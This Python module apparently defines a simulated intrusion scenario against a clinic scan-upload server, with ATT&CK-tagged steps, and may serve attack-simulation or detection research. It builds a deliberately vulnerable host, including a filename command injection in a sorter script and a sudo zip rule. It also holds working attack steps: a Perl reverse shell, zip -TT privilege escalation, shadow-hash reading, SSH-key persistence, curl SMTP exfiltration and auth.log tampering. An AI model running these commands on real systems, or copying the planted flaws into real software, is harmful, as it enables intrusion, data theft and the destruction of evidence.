"""An account that may only upload scans becomes a shell, because a file's name reaches a shell of the sorter."""

from __future__ import annotations

from typing import TYPE_CHECKING

from plot import Storyline, Visit
from storylines._walk import walk
from storylines._ward import a_word, sftp, take_mail

if TYPE_CHECKING:
    from intruder import Intruder, Shell

WHO, WORD, PORT = "scanner", "copier-room-C", 8071

WEAKEN = r"""
set -e
id -u sorter >/dev/null 2>&1 || useradd -r -m -d /opt/sorter -s /bin/bash -c 'sorts scans' sorter
id -u scanner >/dev/null 2>&1 || useradd -m -d /srv/scans -s /usr/sbin/nologin -G sorter -c 'scanner in room C' scanner
echo 'scanner:copier-room-C' | chpasswd
usermod -aG ward sorter
install -d -m 2775 -o scanner -g sorter /srv/scans /srv/scans/drop
install -d -m 750 -o sorter -g sorter /var/lib/scans /var/lib/scans/sorted /opt/sorter/rules
printf 'Match User scanner\n    ForceCommand internal-sftp\n    AllowTcpForwarding no\n' \
    > /etc/ssh/sshd_config.d/scanner.conf
cat > /opt/sorter/guide.py <<'EOF'
# Help pages of the scanner in room C.
import appserver

PAGES = {"/": "Scanner in room C: guide, panel, faults\n", "/panel": "Panel: press Scan, then Folder.\n",
         "/faults": "Fault 7: the folder answers no more. Ask the desk.\n",
         "/guide": "Set-up: address clinic-14, protocol SFTP, user scanner, word copier-room-C, folder drop.\n"}


def handle(method, path, query, body, headers):
    return (200, PAGES[path]) if path in PAGES else (404, "no such page\n")


appserver.serve(8071, handle, "guide")
EOF
cat > /opt/sorter/sort-scans <<'EOF'
#!/bin/bash
# takes scans out of the drop, notes their pages, files them by day
while sleep 5; do
    cd /srv/scans/drop || exit 1
    for name in *.pdf; do
        [ -e "$name" ] || continue
        bash -c "pdfinfo '$name' 2>/dev/null | grep -c Pages" >> /var/lib/scans/pages.txt
        for rule in /opt/sorter/rules/*; do [ -x "$rule" ] && "$rule" "$name"; done
        mkdir -p "/var/lib/scans/sorted/$(date +%F)"
        mv -f -- "$name" "/var/lib/scans/sorted/$(date +%F)/" 2>/dev/null
    done
done
EOF
cat > /opt/sorter/rules/10-sum <<'EOF'
#!/bin/sh
sha256sum -- "$1" >> /var/lib/scans/sums.txt
EOF
chmod 755 /opt/sorter/sort-scans /opt/sorter/rules/10-sum
chown -R sorter:sorter /opt/sorter /var/lib/scans
for n in 1 2 3 4 5 6 7 8; do
    seq $n 40 | sed "s/^/finding $n./" | enscript -q -B -o - | ps2pdf - /var/lib/scans/sorted/scan-$n.pdf
done
cat > /usr/local/bin/scan-once <<'EOF'
#!/bin/sh
# plays the scanner: one page into the drop
n=$(date +%s)
cd /srv/scans/drop || exit 1
echo "page $n" | enscript -q -B -o - | ps2pdf - ".$n" && mv ".$n" "room-C-$n.pdf"
EOF
chmod 755 /usr/local/bin/scan-once
chown sorter: /var/lib/scans/sorted/*.pdf
echo '*/3 * * * * scanner /bin/sh /usr/local/bin/scan-once' > /etc/cron.d/scanner
echo scanner >> /etc/cron.allow
echo 'sorter ALL=(root) NOPASSWD: /usr/bin/zip -q /var/lib/scans/*' > /etc/sudoers.d/sorter
chmod 440 /etc/sudoers.d/sorter
"""

ZIPPED = r"""
== look round | TA0007 | Whose shell is it, what comes in here, what is allowed.
T1033 id; groups
T1083 ls -la /srv/scans/drop /var/lib/scans
T1069.001 sudo -n -l
T1057 ps -u sorter -o pid,etime,args
? T1082 lsb_release -d 2>/dev/null; uname -rm
? T1049 ss -tln | awk '{print $4}'
== up by zip | TA0004 | A sudo rule for zip; its test of an archive may be any command.
T1548.003 sudo -n /usr/bin/zip -q /var/lib/scans/{word} /etc/hostname -T -TT 'id; :'
T1548.003 sudo -n /usr/bin/zip -q /var/lib/scans/{word}2 /etc/hostname -T -TT 'bash -i; :'
T1033 whoami; cd /root
T1070.004 rm -f /var/lib/scans/{word}*
== secrets | TA0006 | Hashes and the settings of the scanner.
T1003.008 awk -F: 'length($2)>9' /etc/shadow | head -4 | cut -c1-30
T1552.001 grep -rn 'word' /opt/sorter/guide.py | head -3
? T1552.004 find /home /root -name 'id_*' 2>/dev/null
== a shell for the scanner | TA0003 | The scanner's account gets a shell and a key; its part of sshd's settings goes.
T1098 usermod -s /bin/bash -c 'scanner in room C' scanner
T1098.004 install -d -m 700 -o scanner -g scanner /srv/scans/.ssh; echo '{public}' > /srv/scans/.ssh/authorized_keys;\
 chown scanner: /srv/scans/.ssh/authorized_keys
T1556 rm /etc/ssh/sshd_config.d/scanner.conf; /usr/sbin/sshd -t && pkill -HUP -o sshd
== scans | TA0009 | The sorted scans, locked in one archive.
T1083 find /var/lib/scans/sorted -name '*.pdf' | wc -l
T1560.001 zip -q -r -P {word}{digit} /var/tmp/{word}.zip /var/lib/scans/sorted -i '*.pdf'
? T1074.001 ls -la /var/tmp
== by mail | TA0010 | The archive goes as a letter straight to the intruder's mail server.
T1048.003 (printf 'Subject: scans\n\n'; base64 /var/tmp/{word}.zip) > /var/tmp/{word}.eml; wc -c /var/tmp/{word}.eml
T1048.003 curl -sS --url smtp://{from}:2587 --mail-from desk@clinic.example --mail-rcpt in@mail.example -T\
 /var/tmp/{word}.eml
== tidy | TA0005 | The archive, the uploaded names and the lines of the log.
T1070.004 shred -u /var/tmp/{word}.zip /var/tmp/{word}.eml
T1070.004 find /var/lib/scans/sorted /srv/scans/drop -name '*PWD*' -delete
T1070.002 sed -i '/zip -q/d' /var/log/auth.log
T1059.004 exit
"""

RULED = r"""
== look round | TA0007 | Little is asked, by small commands.
T1033 id -un
T1083 ls /opt/sorter /opt/sorter/rules
T1083 cat /opt/sorter/sort-scans
? T1082 cat /proc/version
T1087.001 cut -d: -f1,7 /etc/passwd | grep bash
T1069.001 getent group ward reports
== one more rule | TA0003 | The sorter runs every rule on every scan that comes in, the new one too.
T1546 cat > /opt/sorter/rules/20-{file} <<'EOF'
#!/bin/sh
cp -- "$1" "/srv/scans/drop/.$(basename "$1" .pdf).tmp" 2>/dev/null
ls -t /srv/scans/drop/.*.tmp 2>/dev/null | tail -n +9 | xargs -r rm -f
EOF
T1222.002 chmod 755 /opt/sorter/rules/20-{file}
T1546 @plant /opt/sorter/rules/20-{file}
T1070.006 touch -r /opt/sorter/rules/10-sum /opt/sorter/rules/20-{file}
== secrets | TA0006 | What else this account can read.
T1552.001 find /opt /etc -readable -name '*.conf' -newermt 2026-01-01 2>/dev/null | head -5
T1552.001 grep -sE 'word|token' /opt/*/* 2>/dev/null | cut -c1-80 | head -6
== scans and stock | TA0009 | Scans and tables of the ward go into the drop, hidden by their names.
T1005 cp /srv/shares/supplies/stock.csv /srv/scans/drop/.{word}-1.tmp
T1005 cp /srv/shares/rota/week-48.tsv /srv/scans/drop/.{word}-2.tmp; cat /srv/shares/results/filed/day.csv >\
 /srv/scans/drop/.{word}-3.tmp
T1560.001 tar -C /var/lib/scans -cJf /srv/scans/drop/.{word}-4.tmp sorted
T1222.002 chmod 644 /srv/scans/drop/.{word}-*.tmp; ls -la /srv/scans/drop
"""

SHELL = """#!/bin/bash
setsid perl -MSocket -e 'socket(S,PF_INET,SOCK_STREAM,0);connect(S,sockaddr_in(PORT,inet_aton("ADDRESS")))or exit;
open STDIN,"<&S";open STDOUT,">&S";open STDERR,">&S";exec "/bin/bash","-i"' >/dev/null 2>&1 &
"""


def drop(own: Intruder, port: int) -> Shell:
    """Upload a script, then a scan whose name makes the sorter run it."""
    script = a_word(own) + ".dat"
    own.step("a file that is a command", "TA0002", "A script goes into the drop, then a scan whose name runs it.")
    text = SHELL.replace("PORT", str(port)).replace("ADDRESS", own.address)
    sftp(own, WHO, WORD, [f"put {script} drop/{script}", f"chmod 755 drop/{script}"], {script: text}, "T1105")
    own.plant(own.entry, f"/srv/scans/drop/{script}", "T1059.004")
    own.think(6)
    name = f"page';$PWD${{PWD:0:1}}{script};'.pdf"
    return own.catch(
        port,
        lambda: sftp(own, WHO, WORD, [f'put page.pdf "drop/{name}"'], {"page.pdf": "%PDF-1.4\n"}, "T1059.004"),
        "T1059.004",
    )


def play(own: Intruder) -> None:
    middle = (4.0, 12.0)[own.variant]
    names = {"word": a_word(own), "file": own.pick(("tally", "blank-pages")), "from": own.address}
    names["public"] = f"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI{'U2Nhbm5lclJvb21D' * 3}Abc scanner"
    names["digit"] = str(own.rng.randint(11, 98))
    own.step("a guide for everybody", "TA0006", "The scanner's help pages tell user and word of its account.")
    for path in ("/", "/faults", "/guide") if own.variant == 0 else ("/guide",):
        own.http(own.entry, PORT, "GET", path, technique="T1552.001")
        own.think(middle)
    own.step("as the scanner", "TA0001", "The account has no shell, but it may upload.")
    sftp(own, WHO, WORD, ["pwd", "ls -la", "ls -la drop", "ls -la /opt"], {}, "T1078.003")
    own.think(middle)
    shell = drop(own, 6119 if own.variant == 0 else 27017)
    if own.variant == 0:
        take_mail(own, 2587)
        walk(own, ZIPPED, shell, names, middle)
        shell.close()
        return
    walk(own, RULED, shell, names, middle)
    shell.close()
    own.think(middle * 3)
    own.step("fetched", "TA0010", "The hidden files are fetched as scans are brought: by sftp, as the scanner.")
    for number in (1, 2, 3, 4):
        sftp(own, WHO, WORD, [f"get drop/.{names['word']}-{number}.tmp"], {}, "T1048.002")
        own.think(middle)
    own.rest(100)  # until scans have come in
    sftp(own, WHO, WORD, ["ls -la drop", "get drop/.room-C*.tmp"], {}, "T1029")
    own.step("tidy", "TA0005", "The files in the drop are removed, again by sftp.")
    sftp(own, WHO, WORD, [f"rm drop/.{names['word']}-*.tmp", "rm drop/*.dat"], {}, "T1070.004")


STORYLINE = Storyline(
    name="scan-drop",
    split="test",
    words="The help pages of a scanner tell the word of its account, which may only upload. The sorter of the scans "
    "hands file names to a shell: a name runs an uploaded script. The intruder becomes root by a sudo rule for zip and "
    "mails the scans out, or adds a rule to the sorter and fetches the scans by sftp.",
    weaken=WEAKEN,
    services=("sorter: /bin/bash /opt/sorter/sort-scans", "sorter: /usr/bin/python3 /opt/sorter/guide.py"),
    visits=(Visit(PORT, 120, path="/{pick:|guide|panel|faults}"),),
    play=play,
    variants=2,
    hosts=("clinic-14",),
    minutes=13,
)
